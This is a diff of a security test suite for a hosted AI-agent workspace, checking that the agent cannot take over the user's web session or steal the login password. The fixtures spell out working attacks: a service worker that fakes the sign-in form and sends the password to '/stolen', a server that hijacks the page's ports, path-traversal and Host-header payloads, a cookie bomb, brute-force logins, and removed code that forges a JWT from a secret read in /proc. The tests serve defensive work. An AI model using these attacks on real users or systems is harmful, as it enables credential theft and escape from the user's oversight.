@@ -13,13 +13,12 @@ against the agent user.
 from __future__ import annotations
 
 import base64
-import hashlib
-import hmac
+import contextlib
 import json
 import os
-import re
 import socket
 import ssl
+import time
 
 import pytest
 
@@ -32,6 +31,7 @@ from .web_helpers import (
     browser,
     https,
     launch,
+    root_on,
     session_cookies,
     sign_in,
     sign_in_browser,
@@ -93,8 +93,10 @@ setTimeout(() => done("finished", true), 2500);
 
 
 @pytest.fixture(scope="module")
-def ws(cli, web_cloud, tmp_path_factory) -> Launched:
-    _, dns = web_cloud
+def ws(cli, web_lite_cloud, tmp_path_factory) -> Launched:
+    """A workspace with a domain and a desktop, without the code UI (its attacks, which need
+    CloudCLI running, are in test_web_access.py): no waiting for CloudCLI's compile here."""
+    _, dns = web_lite_cloud
     workspace = launch(cli, dns, tmp_path_factory.mktemp("repos"), NAME, "--desktop")
     server = EVIL_SERVER % {"log": CAPTURED, "page": ATTACK_PAGE}
     cli.ssh(NAME, f"cat > ~/evil.py <<'EOF'\n{server}\nEOF\n(setsid python3 ~/evil.py >/dev/null 2>&1 &)")
@@ -104,14 +106,7 @@ def ws(cli, web_cloud, tmp_path_factory) -> Launched:
 
 @pytest.fixture(scope="module")
 def vm(ws, docker_client):
-    """Root on the simulated VM (docker exec: no SSH session, nothing the agent could see)."""
-    (container,) = [c for c in docker_client.containers.list() if re.fullmatch(rf"hz-\d+-{NAME}", c.name)]
-
-    def root(command: str) -> str:
-        result = container.exec_run(["bash", "-c", command])
-        return result.output.decode(errors="replace")
-
-    return root
+    return root_on(docker_client, NAME)
 
 
 def captured(cli) -> list[dict]:
@@ -134,7 +129,7 @@ def leases(cli) -> str:
     ("", "/%2e%2e/api/state", {}),
     ("", "/.vmgen/../api/state", {}),
     ("", "//api/state", {}),
-    ("code.", "/api/projects", {"X-Vmgen-Cookie": "x", "X-Forwarded-Method": "GET"}),
+    ("desktop.", "/vnc.html", {"X-Vmgen-Cookie": "x", "X-Forwarded-Method": "GET"}),
     ("desktop.", "/websockify", {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
                                  "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Origin": "https://desktop.x"}),
     ("p3000.", "/", {"X-Vmgen-Client": "127.0.0.1"}),
@@ -148,31 +143,10 @@ def test_nothing_gets_past_the_login(ws, host_prefix, path, headers):
 def test_host_tricks_reach_no_backend(ws):
     # TLS for one name, Host for another, unknown names: Host decides, and needs its own login.
     _, session = sign_in(ws.ip, ws.host, ws.password)
-    for host in (f"code.{ws.host}", "localhost", f"{ws.host}.evil.example", f"p3000.{ws.host}", "127.0.0.1:7392"):
+    for host in (f"desktop.{ws.host}", "localhost", f"{ws.host}.evil.example", f"p3000.{ws.host}", "127.0.0.1:7392"):
         reply = https(ws.ip, host, "/api/state", headers={"Cookie": session.cookies[ws.host]}, sni=ws.host)
         assert reply.status != 200 or reply.body == b"", (host, reply.status)
     assert session.get(ws.host, "/api/state").status == 200
-
-
-def test_the_code_uis_own_login_is_never_reached_and_its_token_alone_opens_nothing(cli, ws):
-    reply = https(ws.ip, f"code.{ws.host}", "/api/auth/login", "POST", {"Content-Type": "application/json"},
-                  json.dumps({"username": "vmgen", "password": ws.password}).encode())
-    assert reply.status == 403 and "Sign in at" in reply.text
-    # The agent reads CloudCLI's key (its own process) and mints a token: from outside, without
-    # the web login, Caddy refuses it.
-    eventually(lambda: cli.ssh(NAME, "pgrep -u agent -f claude-code-ui >/dev/null && echo up || true").strip() == "up",
-               timeout=900, what="CloudCLI to run", interval=5)
-    secret = cli.ssh(NAME, "tr '\\0' '\\n' < /proc/$(pgrep -u agent -f claude-code-ui | head -1)/environ"
-                           " | sed -n 's/^JWT_SECRET=//p'").strip()
-    assert len(secret) == 64
-
-    def part(value: dict) -> str:
-        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
-
-    signed = part({"alg": "HS256", "typ": "JWT"}) + "." + part({"userId": 1, "username": "vmgen"})
-    token = signed + "." + base64.urlsafe_b64encode(
-        hmac.new(secret.encode(), signed.encode(), hashlib.sha256).digest()).rstrip(b"=").decode()
-    assert https(ws.ip, f"code.{ws.host}", "/api/projects", headers={"Authorization": f"Bearer {token}"}).status == 401
 
 
 # --- what the agent's dev server gets -----------------------------------------------------------
@@ -193,8 +167,7 @@ def test_no_backend_receives_a_credential_that_works_elsewhere(cli, ws):
     # Whatever it did get, replayed from the internet, opens no other hostname.
     cookies = {value for request in seen for name, value in request["headers"] if name.lower() == "cookie"}
     for cookie in cookies or {""}:
-        for host, path in ((ws.host, "/api/state"), (f"code.{ws.host}", "/api/projects"),
-                           (f"desktop.{ws.host}", "/vnc.html")):
+        for host, path in ((ws.host, "/api/state"), (f"desktop.{ws.host}", "/vnc.html")):
             assert https(ws.ip, host, path, headers={"Cookie": cookie}).status == 401, (host, cookie)
 
 
@@ -237,8 +210,9 @@ def test_the_desktop_websocket_only_from_the_desktop_and_vnc_asks_for_its_passwo
     assert security == [2], "VNC asks for its password (type 2), never none (type 1)"
 
 
-def vnc_security_types(ip: str, host: str, cookie: str) -> list[int]:
-    """Open the desktop's websocket as its own page does and read what the VNC server offers."""
+@contextlib.contextmanager
+def desktop_websocket(ip: str, host: str, cookie: str):
+    """The desktop's websocket opened as its own page opens it, past the VNC server's greeting."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     with socket.create_connection((ip, 443), timeout=20) as raw, context.wrap_socket(raw, server_hostname=host) as tls:
@@ -252,6 +226,12 @@ def vnc_security_types(ip: str, host: str, cookie: str) -> list[int]:
         assert b" 101 " in head.split(b"\r\n")[0], head
         version = ws_read(tls)
         assert version.startswith(b"RFB 003.008"), version
+        yield tls
+
+
+def vnc_security_types(ip: str, host: str, cookie: str) -> list[int]:
+    """What the VNC server offers, asked through the desktop's websocket."""
+    with desktop_websocket(ip, host, cookie) as tls:
         ws_send(tls, b"RFB 003.008\n")
         offered = ws_read(tls)
         return list(offered[1:1 + offered[0]])
@@ -277,17 +257,16 @@ def ws_send(tls, payload: bytes) -> None:
 
 def test_security_headers_on_vmgens_hostnames_and_the_apps_own_on_previews(ws):
     _, session = sign_in(ws.ip, ws.host, ws.password)
-    session.open("code")
-    for host, path in ((ws.host, "/"), (ws.host, "/.vmgen/login"), (f"code.{ws.host}", "/"),
-                       (f"desktop.{ws.host}", "/vnc.html")):
+    session.open("desktop")
+    for host, path in ((ws.host, "/"), (ws.host, "/.vmgen/login"), (f"desktop.{ws.host}", "/vnc.html")):
         reply = session.get(host, path)
         assert reply.headers["x-frame-options"] == "DENY", host
         assert "frame-ancestors 'none'" in reply.headers["content-security-policy"], host
         assert reply.headers["x-content-type-options"] == "nosniff", host
         assert reply.headers["strict-transport-security"].startswith("max-age=31536000"), host
     # A frame of a vmgen hostname, asked for from a preview, is refused before any backend.
-    framed = session.get(f"code.{ws.host}", "/", {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate",
-                                                  "Sec-Fetch-Dest": "iframe"})
+    framing = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}
+    framed = session.get(f"desktop.{ws.host}", "/vnc.html", framing)
     assert framed.status == 403
     session.open("p3000")
     preview = session.get(f"p3000.{ws.host}", "/")
@@ -338,11 +317,12 @@ def test_xss_through_the_agents_messages_and_file_names_stays_text(cli, ws):
 
 # --- brute force ----------------------------------------------------------------------------------
 
-def test_failed_logins_are_logged_without_credentials_and_then_banned(ws, vm, web_cloud, docker_client, web_image):
-    fake, _ = web_cloud
+def test_failed_logins_are_logged_without_credentials_and_then_banned(ws, vm, web_lite_cloud, docker_client,
+                                                                       web_lite_image):
+    fake, _ = web_lite_cloud
     # Another address on the cloud's network (the test's own must stay unbanned): a container of
     # this run's image, which has curl, doing nothing but guessing.
-    attacker = docker_client.containers.run(web_image, ["sleep", "600"], detach=True, network=fake.network_name,
+    attacker = docker_client.containers.run(web_lite_image, ["sleep", "600"], detach=True, network=fake.network_name,
                                             name=f"vmgen-test-attacker-{RUN}", labels={RUN_LABEL: RUN})
     try:
         attacker.reload()
@@ -381,19 +361,190 @@ def test_the_logins_secrets_are_not_the_agents(cli, ws, vm):
     assert vm("stat -c '%U:%G %a' /etc/vmgen/web-login").strip() == "root:vmgen-web 750"
     assert set(vm("stat -c '%U:%G %a' /etc/vmgen/web-login/*").split("\n")) - {""} == {"root:vmgen-web 640"}
     assert vm("stat -c '%U:%G %a' /run/vmgen/web-login.sock").strip() == "root:caddy 660"
+    assert vm("stat -c '%U:%G %a' /run/vmgen/page.sock").strip() == "root:caddy 660"
+    assert vm("stat -c '%U:%G %a' /run/vmgen/page-ops.sock").strip() == "root:vmgen-page 660"
     assert vm("stat -c '%U:%G %a' /etc/vmgen/cloudcli.env").strip() == "root:root 600"
-    assert "vmgen-web" in vm("ps -o user= -C vmgen || ps -eo user,args | grep '[v]mside web-login'")
+    users = vm("ps -eo user:20,args | grep -E '[v]mside (web|web-login)$'")
+    assert {tuple(line.split()[:1] + line.split()[-1:]) for line in users.splitlines()} == {
+        ("vmgen-web", "web-login"), ("vmgen-page", "web")}, users
     verifier = vm("cat /etc/vmgen/web-login/login").strip()
     assert verifier.startswith("sha256$")
     for path in ("/etc/vmgen/Caddyfile", "/etc/vmgen/web-login/login", "/etc/vmgen/web-login/code-ui-secret"):
         assert "Permission denied" in cli.ssh(NAME, f"cat {path} 2>&1 || true"), path
-    connect = cli.ssh(NAME, "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("
-                            "\"/run/vmgen/web-login.sock\")' 2>&1 || true")
-    assert "Permission denied" in connect
-    # Neither the password nor its verifier anywhere the agent can read, CloudCLI's account included.
+    for sock in ("web-login", "page", "page-ops"):
+        connect = cli.ssh(NAME, "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("
+                                f"\"/run/vmgen/{sock}.sock\")' 2>&1 || true")
+        assert "Permission denied" in connect, sock
+    # Neither the password nor its verifier anywhere the agent can read (CloudCLI's account: in
+    # test_web_access.py, where it runs).
     for secret in (ws.password, verifier.split("$")[2]):
         found = cli.ssh(NAME, f"grep -rlsF -- {secret} ~ /etc /var/log /tmp /run 2>/dev/null | head -3 || true")
         assert found.strip() == "", found
-    hashes = cli.ssh(NAME, "python3 -c \"import sqlite3; print(sqlite3.connect('/home/agent/.cloudcli/auth.db')"
-                           ".execute('select password_hash from users').fetchall())\"")
-    assert "sha256$" not in hashes
+
+
+# --- issue 22: the page's origin is not the agent's; a preview cannot lock the user out; Sign out
+# ends live connections ---------------------------------------------------------------------------
+
+# What the agent serves once it has replaced a backend: a page that registers a service worker,
+# the worker (which would serve its own sign-in form for the hostname and pass the password on),
+# and a log of every request it gets.
+TAKEOVER_SERVER = r"""
+import http.server, json, os, sys
+LOG, HERE, PORT = sys.argv[1], os.path.dirname(os.path.abspath(__file__)), int(sys.argv[2])
+class Evil(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(LOG, "a") as f:
+            f.write(json.dumps({"path": self.path, "headers": self.headers.items()}) + "\n")
+        name, kind = ("sw.js", "text/javascript") if self.path == "/sw.js" else ("page.html", "text/html")
+        with open(os.path.join(HERE, name), "rb") as f:
+            body = f.read()
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *args):
+        pass
+http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Evil).serve_forever()
+"""
+TAKEOVER_PAGE = """<!doctype html><p id=evil>evil</p><script>
+navigator.serviceWorker.register("/sw.js", {scope: "/"})
+  .then(() => window.result = "registered", (e) => window.result = "refused: " + e);
+</script>"""
+# Serves its own form at the sign-in path; the password typed there goes to the agent's backend
+# (in the query of the next page load, once the real sign-in let it through).
+TAKEOVER_WORKER = """
+let typed = "";
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (e) => {
+  const url = new URL(e.request.url);
+  if (url.pathname === "/.vmgen/login" && e.request.method === "GET") {
+    e.respondWith(new Response('<form method=post action="/.vmgen/login"><input name=user value=vmgen>' +
+      '<input id=password name=password type=password><button id=signin>Sign in</button></form>',
+      {headers: {"Content-Type": "text/html"}}));
+  } else if (url.pathname === "/.vmgen/login") {
+    e.respondWith(e.request.clone().formData()
+      .then((form) => { typed = form.get("password"); return fetch(e.request); }));
+  } else if (typed) {
+    e.respondWith(fetch("/stolen?password=" + encodeURIComponent(typed)));
+  }
+});
+"""
+TAKEN = f"/home/agent/work/{NAME}/takeover.jsonl"
+
+
+def caddy_ca_spki(vm) -> str:
+    """The VM's Caddy CA, trusted by chromium as a real CA is: service workers need a valid chain."""
+    from tests.raw_https import spki_hash
+
+    path = vm("find /var/lib/caddy -name intermediate.crt -path '*authorities/local*' | head -1").strip()
+    return spki_hash(vm(f"cat {path}").encode())
+
+
+def test_the_agent_cannot_take_the_page_over_nor_steal_the_password_with_a_worker(cli, ws, vm):
+    """The attack of issue 22: the agent stops the page's server (its own process then), serves the
+    page's origin itself, and a service worker registered there outlives Sign out and takes the
+    password typed into its own sign-in form. Now the page is not the agent's to stop, its address
+    not the agent's to take, and no worker registers on vmgen's hostnames (the desktop's, which the
+    agent does serve, included)."""
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    # The agent stops the page (and its own websockify) and serves both addresses itself: the
+    # page's old port and the desktop's.
+    page_pid = vm("systemctl show -p MainPID --value vmgen-web.service").strip()
+    files = {"server.py": TAKEOVER_SERVER, "page.html": TAKEOVER_PAGE, "sw.js": TAKEOVER_WORKER}
+    cli.ssh(NAME, "mkdir -p ~/takeover\n" + "".join(
+        f"cat > ~/takeover/{name} <<'EOF'\n{text}\nEOF\n" for name, text in files.items()))
+    websockify = "$(systemctl show -p MainPID --value vmgen-desktop-novnc.service)"
+    driver = None
+    try:
+        tried = cli.ssh(NAME, f"kill {page_pid} 2>&1; pkill -f 'vmside web$' 2>&1; kill {websockify}; "
+                              + "".join(f"(setsid python3 ~/takeover/server.py {TAKEN} {port} >/dev/null 2>&1 &); "
+                                        for port in (7392, 6080)) + "echo done")
+        eventually(lambda: "evil" in cli.ssh(NAME, "curl -s 127.0.0.1:6080/ || true"), timeout=30,
+                   what="the agent's server on the desktop's port")
+        driver = browser(ws.ip, trusted_spki=caddy_ca_spki(vm))
+        wait = WebDriverWait(driver, 60, poll_frequency=0.5)
+        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
+        for host in (ws.host, f"desktop.{ws.host}"):  # wherever the agent's page is served, it tries
+            driver.get(f"https://{host}/")
+            wait.until(lambda d: d.find_elements(By.ID, "evil") or d.find_elements(By.ID, "agent"))
+            if driver.find_elements(By.ID, "evil"):
+                wait_until(lambda: driver.execute_script("return window.result"), bool, timeout=30)
+        # Sign out, and in again: the password typed into whatever the browser shows for the form.
+        driver.get(f"https://{ws.host}/.vmgen/nothing")
+        driver.execute_script("""const f = document.createElement('form'); f.method = 'post';
+            f.action = '/.vmgen/logout'; document.body.appendChild(f); f.submit();""")
+        wait.until(lambda d: d.find_elements(By.ID, "password"))
+        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
+        driver.get(f"https://{ws.host}/")
+        wait.until(lambda d: d.find_elements(By.ID, "evil") or d.find_elements(By.ID, "agent"))
+        page_is_vmgens = bool(driver.find_elements(By.ID, "agent"))
+        workers = {}
+        for host in (ws.host, f"desktop.{ws.host}"):
+            driver.get(f"https://{host}/.vmgen/nothing")
+            workers[host] = driver.execute_script("return navigator.serviceWorker.getRegistrations()"
+                                                  ".then(r => r.length)")
+    finally:
+        if driver is not None:
+            driver.quit()
+        cli.ssh(NAME, "pkill -u agent -f '[t]akeover/server.py' || true")  # [t]: not this very shell
+        vm("systemctl restart vmgen-desktop-novnc.service")  # the agent's websockify back, for what follows
+    taken = cli.ssh(NAME, f"cat {TAKEN} 2>/dev/null || true")
+    assert ws.password not in taken and "stolen" not in taken, "the password reached the agent"
+    assert workers == {ws.host: 0, f"desktop.{ws.host}": 0}, workers
+    assert page_is_vmgens, "the agent served the workspace page"
+    assert "Operation not permitted" in tried and vm(f"ps -o user= -p {page_pid}").strip() == "vmgen-page"
+    # The browser asked for the worker's script on the desktop's hostname; the login refused it
+    # before any backend saw it.
+    assert '"/sw.js"' not in taken and '"/"' in taken
+
+
+def test_a_cookie_bomb_from_a_preview_locks_no_hostname(ws):
+    """A page on p3000 plants 20 cookies of 4000 bytes for the workspace's domain: every hostname
+    answered 431 until the user cleared cookies by hand. Now each keeps working."""
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    bomb = ("<script>for (let i = 0; i < 20; i++) document.cookie = `bomb${i}=${'x'.repeat(4000)}; Path=/; "
+            "Secure; Domain=${location.hostname.split('.').slice(1).join('.')}`;"
+            "window.planted = document.cookie.split('; ').filter(c => c.startsWith('bomb')).length;</script>")
+    driver = browser(ws.ip)
+    try:
+        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
+        driver.get(f"https://p3000.{ws.host}/")
+        wait_until(lambda: driver.page_source, lambda html: "evil app" in html, timeout=60)
+        driver.execute_script(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(bomb)});"
+                              "const s = document.createElement('script');"
+                              "s.textContent = document.body.lastElementChild.textContent;"
+                              "document.body.appendChild(s);")
+        assert wait_until(lambda: driver.execute_script("return window.planted"), bool, timeout=10) == 20
+        wait = WebDriverWait(driver, 60, poll_frequency=0.5)
+        driver.get(f"https://{ws.host}/")
+        wait.until(lambda d: d.find_elements(By.ID, "agent") and d.find_element(By.ID, "name").text == NAME)
+        driver.get(f"https://desktop.{ws.host}/")
+        wait.until(lambda d: "vnc.html" in d.current_url and d.find_elements(By.ID, "noVNC_control_bar"))
+        kept = [c for c in driver.get_cookies() if c["name"].startswith("bomb")]
+        assert sum(len(c["value"]) for c in kept) <= 8 << 10
+    finally:
+        driver.quit()
+
+
+def test_sign_out_closes_the_desktops_websocket(ws):
+    """A VNC websocket opened before Sign out went on answering after it: now it is closed."""
+    _, session = sign_in(ws.ip, ws.host, ws.password)
+    session.open("desktop")
+    desktop = f"desktop.{ws.host}"
+    with desktop_websocket(ws.ip, desktop, session.cookies[desktop]) as tls:
+        out = https(ws.ip, ws.host, "/.vmgen/logout", "POST", {"Cookie": session.cookies[ws.host],
+                                                                "Origin": f"https://{ws.host}"})
+        assert out.status == 303
+        started = time.monotonic()
+        tls.settimeout(10)
+        try:
+            ended = tls.recv(1) == b""
+        except (ConnectionError, ssl.SSLError):
+            ended = True
+        assert ended and time.monotonic() - started < 5
